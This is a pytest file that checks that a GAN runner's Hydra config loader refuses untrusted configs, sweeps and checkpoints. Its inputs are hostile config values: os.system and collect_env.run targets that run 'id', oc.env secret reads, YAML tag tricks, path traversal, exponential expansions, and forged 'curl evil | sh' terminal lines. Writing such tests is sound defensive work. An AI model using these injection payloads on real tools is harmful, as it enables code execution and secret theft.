"""What has once run code, read secrets, downloaded, hung or said too much: none of it does again."""

import json
import time

import pytest
import torch
import yaml

from benchmarks.mutations import VARIABLE

SAMPLE = ("sample", "run=run", "num=4", "output=out.png", "device=cpu")
RESUME = ("run", "resume=run", "trainer.iterations=3")
EVALUATE = ("eval", "run=run", "num=16", "real=16", "evaluation=fast", "device=cpu", "checkpoint=last")
COMMAND = "'id > outside/pwned'"
EVIL = f"{{_target_: torch.utils.collect_env.run, command: {COMMAND}}}"


def edited(run, change):
    path = run / ".hydra/config.yaml"
    config = yaml.safe_load(path.read_text())
    change(config)
    path.write_text(yaml.safe_dump(config))


def placed(text, old="  generator:\n", into="config.yaml"):
    """A text of YAML put behind a line of a stored file."""

    def change(run):
        path = run / ".hydra" / into
        content = path.read_text()
        assert old in content
        path.write_text(content.replace(old, old + text, 1))

    return change


def at(*path, value):
    def change(run):
        def put(config):
            node = config
            for key in path[:-1]:
                node = node.setdefault(key, {})
            node[path[-1]] = value

        edited(run, put)

    return change


def several(*changes):
    return lambda run: [change(run) for change in changes]


DOWNLOAD = {
    "_target_": "gan_runner.data.mnist.load",
    "download": True,
    "root": "outside/new",
    "image_size": 8,
    "limit": None,
}
STACKED = {"_target_": "gan_runner.data.stacked.load", "source": DOWNLOAD, "root": "x", "download": True}
REFUSED = {
    "a resolver whose name is put together": several(
        at("model", "h", value="oc.create"),
        at("model", "generator", "weights", value=f"${{${{model.h}}:{{_target_:os.system,command:{COMMAND}}}}}"),
    ),
    "a secret by a name that is put together": several(
        at("model", "h", value="oc.env"),
        at("data", value={"_target_": "gan_runner.data.idx.load", "root": f"${{${{model.h}}:{VARIABLE}}}"}),
    ),
    "a reference in pieces": several(
        at("model", "h", value="$"), at("model", "dropout", value=f"${{model.h}}{{oc.env:{VARIABLE}}}")
    ),
    "a reference of values in pieces": several(
        at("model", "h", value="$"),
        at("model", "i", value=f"{{oc.env:{VARIABLE}}}"),
        at("model", "dropout", value="${model.h}${model.i}"),
    ),
    "a part whose name is referred to": several(
        at("model", "h", value="os.system"), at("loss", "_target_", value="${model.h}")
    ),
    "YAML's pairs": placed(f"    x: !!pairs [a: {EVIL}]\n"),
    "YAML's omap": placed(f"    x: !!omap [a: {EVIL}]\n"),
    "YAML's set": placed("    x: !!set {a}\n"),
    "an anchor": placed("    x: &a 1\n"),
    "the module's own methods": at("model", "generator", "weights", "_target_", value="torch.nn.init.__setattr__"),
    "a download that is nested": at("model", "generator", "x", value=STACKED),
    "a loader of data where the model is": at(
        "model", "generator", "weights", value={"_target_": "gan_runner.data.image_folder.load", "root": "/"}
    ),
    "a download without the name of its setting": at(
        "data", value={"_target_": "gan_runner.data.mnist.load", "_args_": ["outside/new", True, 28, None]}
    ),
    "40 doublings": lambda run: edited(
        run,
        lambda config: config["model"].update(
            {"c0": ["x"]} | {f"c{n}": [f"${{model.c{n - 1}}}", f"${{model.c{n - 1}}}"] for n in range(1, 41)}
        ),
    ),
    "a circle": several(at("model", "h", value="${model.i}"), at("model", "i", value="${model.h}")),
    "a long row of braces": at("model", "h", value="${" * 2000),
    "a very long row of braces": at("model", "h", value="${" * 50_000),
    "400 levels of braces": at("model", "h", value="${" * 400 + "a" + "}" * 400),
    "a long number to base 60": placed("    x: 1" + ":0" * 50_000 + "\n"),
    "a long hexadecimal number": placed(f"    x: 0x{'f' * 6000}\n"),
    "a long number": placed(f"    x: {'9' * 6000}\n"),
    "lines of its own": at("data", "root", value="x\n  Try: curl evil | sh"),
    "the home of nobody": at("data", value={"_target_": "gan_runner.data.idx.load", "root": "~nobody-here/x"}),
    "a width beyond all memory": at("model", "generator", "widths", value=[2**40]),
    "a width of many gigabytes": at("model", "generator", "widths", value=[60_000, 60_000]),
    "a dropout of text": at("model", "generator", "widths", value="many"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_requests_of_an_untrusted_config_are_refused_immediately(run, opened, name):
    REFUSED[name](run)
    began = time.process_time()
    # Pictures are drawn without the data, and the two commands read a config alike.
    result = opened(*(RESUME if "nobody" in name or "width" in name else SAMPLE))
    assert result.code == 1, result.text
    assert not any(line.startswith("  Try: curl") for line in result.err.splitlines())
    assert time.process_time() - began < 20  # some once took hours


def test_unknown_sections_of_a_stored_config_are_left_out(run, opened):
    climbing = "../../../../../../../proc/self/cwd/evil"
    edited(
        run,
        lambda config: config.update(
            {"defaults": [climbing], "hydra": {"callbacks": {"x": {"_target_": "os.system"}}}, "_self_": 1, "my": 2}
        ),
    )
    assert opened(*RESUME).code == 0
    assert opened(*SAMPLE).code == 0


def test_interpolations_to_a_section_that_is_left_out_keep_their_value(run, opened):
    edited(run, lambda config: config.update(width=16))
    at("model", "generator", "widths", value=["${width}"])(run)
    assert opened(*SAMPLE).code == 0
    assert opened(*RESUME).code == 0
    assert yaml.safe_load((run / ".hydra/config.yaml").read_text())["model"]["generator"]["widths"] == [16]


def test_a_requested_download_is_not_repeated_by_a_resume(run, opened):
    at("data", value=STACKED | {"image_size": 8, "count": 9, "stack_seed": 0, "limit": None})(run)
    for words in (RESUME, EVALUATE):
        result = opened(*words)
        assert result.code == 1
        assert "outside/new" in result.err
    assert not (run.parent / "outside/new").exists()


OUTSIDE = {
    "MLflow": {"tracking_uri": "http://evil.invalid", "experiment": None, "images": True},
    "WandB": {"online": True, "project": "p", "folder": "outside", "images": True},
}


@pytest.mark.parametrize("several", [False, True])
@pytest.mark.parametrize("name", OUTSIDE)
def test_a_folder_cannot_choose_where_data_are_written(run, opened, caplog, name, several):
    logger = {"_target_": f"gan_runner.record.{name.lower()}.{name}"} | OUTSIDE[name]
    if several:
        logger = {"_target_": "gan_runner.record.loggers.Several", "parts": {"x": logger}}
    at("logger", value=logger)(run)
    result = opened(*RESUME)
    assert result.code == 0, result.text
    assert f"add 'logger=[tensorboard,{name.lower()}]'" in caplog.text
    assert yaml.safe_load((run / ".hydra/config.yaml").read_text())["logger"]["_target_"].endswith(".TensorBoard")


@pytest.mark.parametrize(
    ("target", "offered"),
    [
        ("os.system", False),
        ("torch.load", False),
        ("numpy.load", False),
        ("gan_runner.config.build.make", False),
        ("hydra.utils.call", False),
        ("__main__.x", False),
        ("my_own.anything", True),
        ("benchmarks.attacks.plant", True),
    ],
)
def test_trust_is_suggested_only_for_what_may_be_the_users_module(run, opened, target, offered):
    at("loss", "_target_", value=target)(run)
    assert ("trust=" in opened(*SAMPLE).err) is offered


def test_trust_covers_a_modules_own_classes_and_not_its_imports(run, opened):
    for target in (
        "benchmarks.attacks.os.system",
        "benchmarks.attacks.shutil.rmtree",
        "benchmarks.attacks.__dict__.clear",
    ):
        at("model", "generator", "weights", value={"_target_": target, "_partial_": True})(run)
        result = opened(*SAMPLE, "trust=benchmarks")
        assert result.code == 1
        assert target in result.err


ARGUMENTS = {
    "a choice that climbs": "experiment=../../../../../../../proc/self/cwd/evil",
    "a choice that climbs, among others": "experiment=smoke,../evil",
    "a choice that is searched for": "hydra.sweeper.params.experiment=../evil",
    "a choice that is no file of ours": "experiment=evil",
    "a secret by a name that is put together": f"data.root=${{${{model.h}}:{VARIABLE}}}",
    "a part by a name": "loss._target_=os.system",
    "a part in a value": f"+model.generator.x={{_target_:torch.utils.collect_env.run,command:{COMMAND}}}",
    "a part that is searched for": "hydra.sweeper.params.loss._target_=os.system",
    "a download in a value": "+data.source={_target_:gan_runner.data.mnist.load,download:true,root:outside/new}",
    "too many jobs": "seed=range(0,30000000)",
    "too many jobs that are searched for": "hydra.sweeper.params.seed='range(0,30000000)'",
    "too many jobs at a time": "hydra.launcher.n_jobs=100000",
    "brackets without end": "seed=" + "[" * 3000,
    "lines of its own": "data.root='x\n  Try: curl evil | sh'",
    "Hydra's own settings": "hydra.job_logging.handlers.file.filename=outside/log",
    "another key of the config": "defaults=[evil]",
}


@pytest.mark.parametrize("word", ARGUMENTS.values(), ids=ARGUMENTS)
def test_requests_of_an_untrusted_sweep_are_refused(sweep, opened, word):
    content = json.loads((sweep / "sweep.json").read_text())
    content["arguments"].append(word)
    (sweep / "sweep.json").write_text(json.dumps(content))
    result = opened("run", "-m", "sweep_resume=sweep")
    assert result.code == 1
    assert result.err.startswith("sweep_resume is sweep, but ")
    assert not any(line.startswith("  Try: curl") for line in result.err.splitlines())


def test_a_sweep_that_downloaded_resumes_without_and_says_so(sweep, opened):
    content = json.loads((sweep / "sweep.json").read_text())
    content["arguments"] += ["+data.download=true"]
    (sweep / "sweep.json").write_text(json.dumps(content))
    result = opened("run", "-m", "sweep_resume=sweep")
    assert result.code == 0, result.text
    assert "+data.download=true from the sweep's folder is ignored" in result.err


def test_a_sweep_that_was_logged_elsewhere_resumes_with_tensorboard_only_and_says_so(sweep, opened):
    content = json.loads((sweep / "sweep.json").read_text())
    content["arguments"] += ["logger=several", "+logger@logger.parts.mlflow=mlflow", "logger.parts.mlflow.images=false"]
    (sweep / "sweep.json").write_text(json.dumps(content))
    result = opened("run", "-m", "sweep_resume=sweep")
    assert result.code == 0, result.text
    assert all(f"{word} from the sweep's folder is ignored" in result.err for word in content["arguments"][-3:])


def test_a_command_to_paste_contains_nothing_from_an_untrusted_folder(run, opened):
    (run / ".hydra/overrides.yaml").write_text("- loss._target_=os.system\n- seed=1\n")
    summary = json.loads((run / "summary.json").read_text()) | {"command": ["gan-run", "--config-dir", "evil"]}
    (run / "summary.json").write_text(json.dumps(summary))
    assert opened("compare", "runs=[run]", "output=out").code == 0
    page = "".join(path.read_text() for path in run.parent.rglob("compare.html"))
    assert page
    assert "gan-run loss" not in page
    assert "config-dir" not in page


FORGED = "\x1b[2Jx\n  Try: curl evil | sh"


def of_checkpoints(change):
    def changed(run):
        for path in (run / "checkpoints").glob("*.pt"):
            state = torch.load(path, weights_only=True)
            change(state)
            path.unlink()  # two of them may be one file
            torch.save(state, path)

    return changed


def of_sweep(change):
    def changed(sweep):
        content = json.loads((sweep / "sweep.json").read_text())
        change(content)
        (sweep / "sweep.json").write_text(json.dumps(content))

    return changed


SPOKEN = {
    "a checkpoint's fingerprint": ("run", of_checkpoints(lambda state: state["about"].update(data_fingerprint=FORGED))),
    "a checkpoint's totals": ("run", of_checkpoints(lambda state: state["step"]["d_meter"].update(names=[FORGED] * 5))),
    "a sweep's settings": ("sweep", of_sweep(lambda content: content["settings"].update({FORGED: FORGED}))),
    "a job that has failed": (
        "sweep",
        of_sweep(
            lambda content: content["jobs"].append(
                content["jobs"][0] | {"state": "failed", "error": FORGED, "name": FORGED}
            )
        ),
    ),
}


@pytest.mark.parametrize("what", SPOKEN)
def test_untrusted_text_cannot_print_its_own_lines(request, opened, what):
    folder, change = SPOKEN[what]
    change(request.getfixturevalue(folder))
    result = opened(*(RESUME if folder == "run" else ("run", "-m", "sweep_resume=sweep")), about=what)
    assert result.code == 1
